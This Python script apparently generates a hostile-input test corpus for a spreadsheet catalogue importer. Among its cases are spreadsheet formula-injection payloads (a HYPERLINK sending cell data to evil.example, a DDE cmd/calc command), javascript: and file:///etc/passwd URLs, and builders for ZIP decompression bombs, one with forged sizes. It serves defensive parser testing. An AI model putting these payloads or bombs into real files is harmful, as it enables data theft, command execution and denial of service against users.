"""Writes the hostile-input corpus (tests/hostile/files/): catalogues as people, broken exports
and attackers produce them. Deterministic: run again and the files come out byte for byte the
same. The big ones (a 50 MB CSV, a decompression-bomb XLSX, a bomb that lies about its size)
are made at test time by ``big_csv``, ``bomb_xlsx`` and ``forged_size_xlsx`` instead of being
committed.

    .venv/bin/python tests/hostile/make_corpus.py
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"

HEADER = ["No", "Nama Produk", "Kategori", "Harga", "Stok", "Berat", "Deskripsi", "Foto 1"]
GOOD = [
    ["1", "Keripik Singkong Balado", "Keripik", "Rp 15.000", "40", "250 gr", "Renyah dan pedas.",
     "https://img.example/k1.jpg"],
    ["2", "Manisan Carica 250 gr", "Manisan", "25.000", "12", "0,25 kg", "Khas Dieng.", "https://img.example/m1.jpg"],
    ["3", "Sambal Bawang Dieng", "Sambal", "Rp22.000,-", "habis", "180 gram", "", "https://img.example/s1.jpg"],
]


def _csv(rows: list[list[str]], sep: str = ";", newline: str = "\r\n") -> str:
    def cell(v: str) -> str:
        return '"' + v.replace('"', '""') + '"' if any(c in v for c in (sep, '"', "\n", "\r")) else v

    return "".join(sep.join(cell(v) for v in r) + newline for r in rows)


def _text(name: str, text: str, encoding: str = "utf-8") -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        (folder / name).write_bytes(text.encode(encoding))
    return write


def _bytes(name: str, data: bytes) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        (folder / name).write_bytes(data)
    return write


def _workbook(name: str, build: Callable) -> Callable[[Path], None]:
    """An XLSX from openpyxl with fixed zip timestamps, so it is the same on every run."""
    def write(folder: Path) -> None:
        from openpyxl import Workbook

        wb = Workbook()
        build(wb)
        buf = io.BytesIO()
        wb.save(buf)
        (folder / name).write_bytes(_stable_zip(buf.getvalue()))
    return write


def _stable_zip(data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "docProps/core.xml":  # creation time
                import re
                body = re.sub(rb"<dcterms:(created|modified)[^>]*>[^<]*</dcterms:\1>", b"", body)
            fixed = zipfile.ZipInfo(info.filename, date_time=(2026, 1, 1, 0, 0, 0))
            fixed.compress_type = zipfile.ZIP_DEFLATED
            dst.writestr(fixed, body)
    return out.getvalue()


def _sheet(ws, rows: list[list]) -> None:
    for r in rows:
        ws.append(r)


# ---- the cases -------------------------------------------------------------------------------------

def _random(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)


def _formulas(wb) -> None:
    ws = wb.active
    ws.title = "Produk"
    _sheet(ws, [HEADER, *GOOD[:1]])
    # Formulas saved without a computed value (as a script or some web exports write them).
    ws.append(["2", "Kopi Bubuk Robusta", "Kopi Bubuk", "=15*1000", "=B1", "200 gr", "=HYPERLINK(\"https://evil.example\",\"klik\")",
               "https://img.example/k2.jpg"])
    ws.append(["3", "=CONCAT(\"Keripik\",\" Pisang\")", "Keripik", 12000, 5, "250 gr", "ok", "https://img.example/k3.jpg"])


def _merged(wb) -> None:
    ws = wb.active
    ws.title = "Katalog"
    ws.append(["Katalog Produk KWT Melati — Desa Kutosari"])
    ws.merge_cells("A1:J1")
    ws.append([])
    ws.append(["No", "Nama Produk", "Kategori", "Harga", "Stok", "Berat", "Deskripsi", "Foto", None, None])
    ws.merge_cells("H3:J3")  # "Foto" over three columns
    ws.append(["1", "Keripik Singkong Original", "Keripik", 15000, 10, "250 gr", "", "https://img.example/a.jpg",
               "https://img.example/b.jpg", "https://img.example/c.jpg"])
    ws.append(["2", "Keripik Singkong Pedas", None, 15000, 8, "250 gr", "", "https://img.example/d.jpg"])
    ws.merge_cells("C4:C5")  # one category written once for two rows
    ws.append(["3", "Peyek Kacang", "Makanan Ringan", "Rp 12.000", 7, "200 gr", "Gurih", "https://img.example/e.jpg"])
    ws.merge_cells("B6:B7")  # a product name merged over a blank row below it
    ws.append([])


def _hidden(wb) -> None:
    notes = wb.active
    notes.title = "Catatan"
    notes.append(["Katalog diperbarui tiap Senin"])
    ws = wb.create_sheet("Produk")
    _sheet(ws, [HEADER, *GOOD])
    ws.sheet_state = "hidden"


def _dates(wb) -> None:
    import datetime as dt

    ws = wb.active
    ws.title = "Produk"
    ws.append(HEADER + ["Tanggal Kedaluwarsa"])
    ws.append(["1", "Dodol Mangga", "Makanan Ringan", 32000, 15, "500 gr", "", "https://img.example/d.jpg", 46253])
    ws.append(["2", "Terasi Rebon", "Bumbu Dapur", dt.datetime(2026, 1, 15), 30, "250 gr", "", "https://img.example/t.jpg",
               dt.date(2026, 8, 17)])  # a price Excel turned into a date
    ws.cell(row=3, column=4).number_format = "dd/mm/yyyy"
    ws.append(["3", "Kerupuk Udang", "Makanan Ringan", "15.000", dt.time(12, 30), "250 gr", "", "https://img.example/k.jpg",
               "17 Agustus 2026"])


def _far_cell(wb) -> None:
    ws = wb.active
    ws.title = "Produk"
    _sheet(ws, [HEADER, *GOOD])
    ws["XFD1048576"] = "x"  # the last cell Excel has: a reader must not allocate the whole grid


def _many_sheets(wb) -> None:
    wb.active.title = "Petunjuk"
    for i in range(120):
        ws = wb.create_sheet(f"Kosong {i}")
        ws.append([f"catatan {i}"])
    for name in ("Produk A", "Produk B"):
        ws = wb.create_sheet(name)
        _sheet(ws, [HEADER, [*GOOD[0][:1], f"{GOOD[0][1]} {name[-1]}", *GOOD[0][2:]]])


def _sheet_names(wb) -> None:
    wb.active.title = "Ringkasan (Summary)"  # the name of a sheet the rejects report adds itself
    _sheet(wb.active, [HEADER, GOOD[0], ["2", "", "Keripik", "nego", "-5", "?", "", "ftp://x"]])
    ws = wb.create_sheet("Produk 🍌 “baru” & <lama>")
    _sheet(ws, [HEADER, ["1", "Pisang Sale", "Makanan Ringan", "15rb", "3", "1 ons", "", "http://img.example/p.jpg"]])


def _long_cells_xlsx(wb) -> None:
    ws = wb.active
    ws.title = "Produk"
    _sheet(ws, [HEADER, ["1", "Keripik " + "X" * 32_759, "Keripik", "15000", "4", "250 gr", "D" * 32_767,
                         "https://img.example/x.jpg"]])


def _password_xlsx() -> bytes:
    """What Excel writes for a password-protected workbook: an OLE container holding an
    EncryptedInfo and EncryptedPackage stream (headers only: enough for any reader to tell)."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHH", header, 24, 0x3E, 3, 0xFFFE)
    struct.pack_into("<H", header, 30, 9)
    directory = bytearray(512)
    for i, name in enumerate(("Root Entry", "EncryptionInfo", "EncryptedPackage")):
        entry = name.encode("utf-16-le") + b"\x00\x00"
        directory[i * 128:i * 128 + len(entry)] = entry
        struct.pack_into("<H", directory, i * 128 + 64, len(entry))
    return bytes(header) + bytes(directory) + _random(2048, 7)


def _truncated_xlsx() -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    _sheet(wb.active, [HEADER, *GOOD])
    buf = io.BytesIO()
    wb.save(buf)
    data = _stable_zip(buf.getvalue())
    return data[: len(data) // 2]


def _zip_not_xlsx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr(zipfile.ZipInfo("katalog.txt", date_time=(2026, 1, 1, 0, 0, 0)), _csv([HEADER, *GOOD]))
    return out.getvalue()


HTML = ("<html><head><meta charset='utf-8'><title>Katalog</title></head><body><table>"
        + "".join("<tr>" + "".join(f"<td>{c}</td>" for c in r) + "</tr>" for r in [HEADER, *GOOD])
        + "</table></body></html>")
SPREADSHEETML = ('<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
                 '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Produk"><Table>'
                 + "".join("<Row>" + "".join(f'<Cell><Data ss:Type="String">{c}</Data></Cell>' for c in r) + "</Row>"
                           for r in [HEADER, *GOOD]) + "</Table></Worksheet></Workbook>")
SHUFFLE = [5, 2, 7, 0, 3, 6, 1, 4]

CASES: dict[str, Callable[[Path], None]] = {
    "empty.csv": _bytes("empty.csv", b""),
    "blank_lines.csv": _text("blank_lines.csv", "\r\n   \r\n\t\r\n\r\n"),
    "header_only.csv": _text("header_only.csv", _csv([HEADER])),
    "only_delimiters.csv": _text("only_delimiters.csv", ";;;;;;;\r\n" * 20),
    "binary_junk.xlsx": _bytes("binary_junk.xlsx", _random(4096, 1)),
    "binary_junk.csv": _bytes("binary_junk.csv", _random(4096, 2)),
    "web_page.xls": _text("web_page.xls", HTML),
    "spreadsheetml_2003.xls": _text("spreadsheetml_2003.xls", SPREADSHEETML),
    "password_protected.xlsx": _bytes("password_protected.xlsx", _password_xlsx()),
    "truncated.xlsx": _bytes("truncated.xlsx", _truncated_xlsx()),
    "zip_not_workbook.xlsx": _bytes("zip_not_workbook.xlsx", _zip_not_xlsx()),
    "utf16_bom.csv": _bytes("utf16_bom.csv", _csv([HEADER, *GOOD], sep="\t").encode("utf-16")),
    "utf16_no_bom.csv": _bytes("utf16_no_bom.csv", _csv([HEADER, *GOOD]).encode("utf-16-le")),
    "shift_jis.csv": _text("shift_jis.csv", _csv([HEADER, ["1", "煎餅 せんべい", "Keripik", "15000", "4", "100 gr",
                                                            "日本の菓子", "https://img.example/j.jpg"]]), "shift_jis"),
    "cp1252_late_byte.csv": _bytes("cp1252_late_byte.csv", _csv([HEADER, *GOOD]).encode("utf-8")
                                   + _csv([["4", "Kue Lapis Legit Spesial", "Kue Kering", "85.000", "2", "1 kg",
                                            "Resep nenek \u2014 manis", "https://img.example/l.jpg"]]).encode("cp1252")),
    "nul_bytes.csv": _bytes("nul_bytes.csv", _csv([HEADER, *GOOD]).encode().replace(b"Balado", b"Bal\x00ado")),
    "unbalanced_quote.csv": _text("unbalanced_quote.csv", _csv([HEADER, GOOD[0]])
                                  + '2;"Keripik Tempe;Keripik;15000;4;250 gr;;https://img.example/t.jpg\r\n'
                                  + _csv(GOOD[1:])),
    "long_cells.csv": _text("long_cells.csv", _csv([HEADER, ["1", "Keripik " + "Y" * 100_000, "Keripik", "15000", "4",
                                                             "250 gr", "Z" * 100_000, "https://img.example/y.jpg"],
                                                    GOOD[1]])),
    "formula_text.csv": _text("formula_text.csv", _csv([HEADER,
        ["1", '=HYPERLINK("https://evil.example/?"&A1,"Klik")', "Keripik", "15000", "4", "250 gr", "+62 812 3456 7890",
         "https://img.example/f.jpg"],
        ["2", "@SUM(1+1)*cmd|' /C calc'!A0", "Keripik", "=1+1", "4", "250 gr", "-2+3", "https://img.example/g.jpg"],
        ["3", "\tTab di depan", "Keripik", "15000", "\r4", "250 gr", "baris\nbaru", "https://img.example/h.jpg"]])),
    "header_in_french.csv": _text("header_in_french.csv", _csv([["N°", "Nom du produit", "Catégorie", "Prix",
                                                                 "Quantité", "Poids", "Déscription", "Image"],
                                                                *GOOD])),
    "header_in_japanese.csv": _text("header_in_japanese.csv", _csv([["番号", "商品名", "カテゴリ", "価格", "在庫",
                                                                     "重量", "説明", "写真"],
                                                                    *GOOD])),
    "header_below_row_30.csv": _text("header_below_row_30.csv", _csv([[f"catatan {i}"] for i in range(40)]
                                                                      + [HEADER, *GOOD])),
    "columns_shuffled.csv": _text("columns_shuffled.csv", _csv([[r[i] for i in SHUFFLE] for r in [HEADER, *GOOD]])),
    "columns_in_order.csv": _text("columns_in_order.csv", _csv([HEADER, *GOOD])),
    "absurd_numbers.csv": _text("absurd_numbers.csv", _csv([HEADER,
        ["1", "Keripik A", "Keripik", "1e308", "9" * 40, "1e400 kg", "", "https://img.example/1.jpg"],
        ["2", "Keripik B", "Keripik", "NaN", "inf", "-0 gr", "", "https://img.example/2.jpg"],
        ["3", "Keripik C", "Keripik", "Rp " + "9" * 30, "-0", "0x10", "", "https://img.example/3.jpg"],
        ["4", "Keripik D", "Keripik", "١٥٠٠٠", "٤", "٢٥٠ gr", "", "https://img.example/4.jpg"]])),
    "control_characters.csv": _text("control_characters.csv", _csv([HEADER,
        ["1", "Keripik\x1b[31m Merah\x07", "Keripik", "15000", "4", "250 gr", "ok\x0bok\x0c",
         "https://img.example/c.jpg"],
        ["2", "\u202eodalaB kipireK", "Keripik", "15000", "4", "250 gr", "zero\u200bwidth", "https://img.example/d.jpg"],
        ["3", "\u200b\u200b", "Keripik", "15000", "4", "250 gr", "", "https://img.example/e.jpg"]])),
    "mac_cr_lines.csv": _text("mac_cr_lines.csv", _csv([HEADER, *GOOD], newline="\r")),
    "thousand_columns.csv": _text("thousand_columns.csv", _csv([[f"Kolom {i}" for i in range(992)] + HEADER]
                                                                + [[""] * 992 + r for r in GOOD])),
    "ragged_wide_row.csv": _text("ragged_wide_row.csv", _csv([HEADER, GOOD[0], GOOD[1] + ["x"] * 10_000, GOOD[2]])),
    "duplicate_headers.csv": _text("duplicate_headers.csv", _csv([HEADER + ["Harga"],
                                                                  *(r + ["99.000"] for r in GOOD)])),
    "excel_error_values.csv": _text("excel_error_values.csv", _csv([HEADER,
        ["1", "#N/A", "Keripik", "#DIV/0!", "#REF!", "#VALUE!", "#NAME?", "https://img.example/1.jpg"]])),
    "hostile_photo_urls.csv": _text("hostile_photo_urls.csv", _csv([HEADER,
        ["1", "Keripik A", "Keripik", "15000", "4", "250 gr", "", "javascript:alert(1)"],
        ["2", "Keripik B", "Keripik", "15000", "4", "250 gr", "", "https://"],
        ["3", "Keripik C", "Keripik", "15000", "4", "250 gr", "", "https://img.example/" + "a" * 20_000 + ".jpg"],
        ["4", "Keripik D", "Keripik", "15000", "4", "250 gr", "", "file:///etc/passwd"]])),
    "wrong_sep_hint.csv": _text("wrong_sep_hint.csv", "sep=|\r\n" + _csv([HEADER, *GOOD])),
    "formulas.xlsx": _workbook("formulas.xlsx", _formulas),
    "merged_cells.xlsx": _workbook("merged_cells.xlsx", _merged),
    "hidden_product_sheet.xlsx": _workbook("hidden_product_sheet.xlsx", _hidden),
    "dates_and_serials.xlsx": _workbook("dates_and_serials.xlsx", _dates),
    "far_away_cell.xlsx": _workbook("far_away_cell.xlsx", _far_cell),
    "many_sheets.xlsx": _workbook("many_sheets.xlsx", _many_sheets),
    "hostile_sheet_names.xlsx": _workbook("hostile_sheet_names.xlsx", _sheet_names),
    "longest_cells.xlsx": _workbook("longest_cells.xlsx", _long_cells_xlsx),
}


def _edited(name: str, edit: Callable[[str, bytes], bytes]) -> Callable[[Path], None]:
    """A small valid catalogue XLSX whose parts are then changed by ``edit(member name, body)``:
    what a hand-written or generated OOXML file may legally hold and openpyxl never writes."""
    def write(folder: Path) -> None:
        from openpyxl import Workbook

        wb = Workbook()
        _sheet(wb.active, [HEADER, *GOOD])
        buf = io.BytesIO()
        wb.save(buf)
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
            for info in src.infolist():
                body = edit(info.filename, src.read(info.filename))
                fixed = zipfile.ZipInfo(info.filename, date_time=(2026, 1, 1, 0, 0, 0))
                fixed.compress_type = zipfile.ZIP_DEFLATED
                dst.writestr(fixed, body)
        (folder / name).write_bytes(_stable_zip(out.getvalue()))
    return write


SHEET = "xl/worksheets/sheet1.xml"


def _far_cells_without_r(member: str, body: bytes) -> bytes:
    """200 cells in Excel's last row, none with an ``r=``: their columns are implied (1, 2, 3, …)."""
    if member != SHEET:
        return body
    cells = b"".join(b'<c t="inlineStr"><is><t>x</t></is></c>' for _ in range(200))
    return body.replace(b"</sheetData>", b'<row r="1048576">' + cells + b"</row></sheetData>")


def _rows_without_r(member: str, body: bytes) -> bytes:
    """A million empty rows with no ``r=`` (each implies the next row number), then 100 cells."""
    if member != SHEET:
        return body
    cells = b"".join(b"<c><v>1</v></c>" for _ in range(100))
    return body.replace(b"</sheetData>", b"<row/>" * 1_048_000 + b"<row>" + cells + b"</row></sheetData>")


def _huge_dimension(member: str, body: bytes) -> bytes:
    """A sheet that declares the whole grid as its extent (``<dimension ref="A1:XFD1048576"/>``)."""
    if member != SHEET:
        return body
    import re
    return re.sub(rb"<dimension [^>]*/>", b'<dimension ref="A1:XFD1048576"/>', body)


def _shared_strings_bomb(member: str, body: bytes) -> bytes:
    """Shared strings that claim two billion entries (a reader may reserve room for them)."""
    if member == SHEET:
        body = body.replace(b'<c r="B2" t="inlineStr"><is><t>Keripik Singkong Balado</t></is></c>',
                            b'<c r="B2" t="s"><v>0</v></c>')
        return body
    if member == "[Content_Types].xml":
        return body.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                            b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    if member == "xl/_rels/workbook.xml.rels":
        return body.replace(b"</Relationships>", b'<Relationship Id="rIdSS" Type="http://schemas.openxmlformats.org/'
                            b'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
                            b"</Relationships>")
    return body


def _with_shared_strings(write: Callable[[Path], None], name: str) -> Callable[[Path], None]:
    def wrapped(folder: Path) -> None:
        write(folder)
        path = folder / name
        src = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
        out = io.BytesIO()
        with src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
            for info in src.infolist():
                dst.writestr(info, src.read(info.filename))
            member = zipfile.ZipInfo("xl/sharedStrings.xml", date_time=(2026, 1, 1, 0, 0, 0))
            member.compress_type = zipfile.ZIP_DEFLATED
            dst.writestr(member, b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.'
                         b'openxmlformats.org/spreadsheetml/2006/main" count="2000000000" uniqueCount="2000000000">'
                         b"<si><t>Keripik Singkong Balado</t></si></sst>")
        path.write_bytes(out.getvalue())
    return wrapped


CASES.update({
    "far_cells_without_r.xlsx": _edited("far_cells_without_r.xlsx", _far_cells_without_r),
    "rows_without_r.xlsx": _edited("rows_without_r.xlsx", _rows_without_r),
    "huge_dimension.xlsx": _edited("huge_dimension.xlsx", _huge_dimension),
    "shared_strings_bomb.xlsx": _with_shared_strings(_edited("shared_strings_bomb.xlsx", _shared_strings_bomb),
                                                     "shared_strings_bomb.xlsx"),
})


def big_csv(path: Path, megabytes: int = 50) -> Path:
    """A valid ``;`` CSV of about ``megabytes`` MB (made at test time; never committed)."""
    row = "{n};Keripik Singkong Rasa {n};Keripik;Rp 15.000;40;250 gr;Renyah, gurih, tanpa pengawet.;https://img.example/{n}.jpg\r\n"
    with open(path, "w", encoding="utf-8", newline="") as f:
        f.write(";".join(HEADER) + "\r\n")
        n, size = 0, 0
        while size < megabytes * 1_000_000:
            n += 1
            size += f.write(row.format(n=n))
    return path


def bomb_xlsx(path: Path, unpacked_mb: int = 2_000) -> Path:
    """A few-MB XLSX whose sheet unpacks to ``unpacked_mb`` MB (made at test time; never committed)."""
    from openpyxl import Workbook

    wb = Workbook()
    _sheet(wb.active, [HEADER, *GOOD])
    buf = io.BytesIO()
    wb.save(buf)
    chunk = b'<row><c t="inlineStr"><is><t>' + b"A" * 4000 + b"</t></is></c></row>"
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info.filename, src.read(info.filename))
                continue
            body = src.read(info.filename)
            head, tail = body.split(b"</sheetData>")
            member = zipfile.ZipInfo(info.filename, date_time=(2026, 1, 1, 0, 0, 0))
            member.compress_type = zipfile.ZIP_DEFLATED
            with dst.open(member, "w", force_zip64=True) as out:
                out.write(head)
                for _ in range(unpacked_mb * 1_000_000 // len(chunk)):
                    out.write(chunk)
                out.write(b"</sheetData>" + tail)
    return path


def forged_size_xlsx(path: Path, unpacked_mb: int = 1_000, declared: int = 4_096) -> Path:
    """An XLSX whose shared strings unpack to ``unpacked_mb`` MB while its ZIP directory declares
    ``declared`` bytes: a bomb that a check of the declared sizes alone lets through. Written by hand
    (zipfile will not lie about sizes); made at test time, never committed."""
    from openpyxl import Workbook

    wb = Workbook()
    _sheet(wb.active, [HEADER, *GOOD])
    buf = io.BytesIO()
    wb.save(buf)
    with zipfile.ZipFile(buf) as src:
        members: dict[str, object] = {i.filename: src.read(i.filename) for i in src.infolist()}

    def shared_strings():
        yield b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        block = (b"<si><t>" + b"A" * 200 + b"</t></si>") * 4_000
        for _ in range(unpacked_mb * 1_000_000 // len(block)):
            yield block
        yield b"</sst>"

    members["xl/sharedStrings.xml"] = shared_strings()
    central = []
    with open(path, "wb") as out:
        for name, body in members.items():
            chunks = [body] if isinstance(body, bytes) else body
            raw, crc, size, packed, offset = name.encode(), 0, 0, 0, out.tell()
            out.write(b"\0" * (30 + len(raw)))  # the local header, written once the sizes are known
            deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
            for chunk in chunks:
                crc, size = zlib.crc32(chunk, crc), size + len(chunk)
                packed += out.write(deflate.compress(chunk))
            packed += out.write(deflate.flush())
            said = declared if name == "xl/sharedStrings.xml" else size
            end = out.tell()
            out.seek(offset)
            out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x5C21, crc, packed, said, len(raw), 0)
                      + raw)
            out.seek(end)
            central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x5C21, crc, packed, said,
                                       len(raw), 0, 0, 0, 0, 0, offset) + raw)
        start, directory = out.tell(), b"".join(central)
        out.write(directory)
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), len(directory), start, 0))
    return path


def main() -> None:
    FILES.mkdir(parents=True, exist_ok=True)
    for write in CASES.values():
        write(FILES)
    print(f"{len(CASES)} files in {FILES}")


if __name__ == "__main__":
    main()
